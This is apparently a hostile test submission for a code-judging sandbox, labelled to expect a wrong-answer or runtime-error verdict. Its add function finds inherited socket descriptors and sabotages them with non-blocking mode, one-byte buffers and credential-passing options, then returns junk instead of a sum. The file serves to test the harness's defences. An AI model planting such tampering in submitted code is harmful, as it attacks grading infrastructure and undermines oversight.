# kind: assert
# verdict: wrong_answer runtime_error
# threat: socket options turned against the other end: no blocking, tiny buffers, credentials
import os
import socket
import stat


def add(a, b):
    for fd in range(3, 32):
        try:
            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
                continue
        except OSError:
            continue
        peer = socket.socket(fileno=os.dup(fd))
        peer.setblocking(False)
        for option, value in ((socket.SO_RCVBUF, 1), (socket.SO_SNDBUF, 1), (socket.SO_PASSCRED, 1), (42, 1)):
            try:
                peer.setsockopt(socket.SOL_SOCKET, option, value)
            except OSError:
                pass
    return [-1] * 500_000
